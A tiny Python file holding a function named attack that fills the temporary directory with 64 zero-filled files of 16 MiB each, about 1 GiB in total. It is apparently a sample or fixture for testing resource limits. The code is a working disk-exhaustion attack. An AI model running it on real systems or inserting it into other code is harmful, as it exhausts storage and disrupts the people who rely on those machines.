import os


def attack(victim):
    for number in range(64):
        with open(os.path.join(os.environ["TMPDIR"], str(number)), "wb") as file:
            file.write(bytes(16 << 20))
    return True
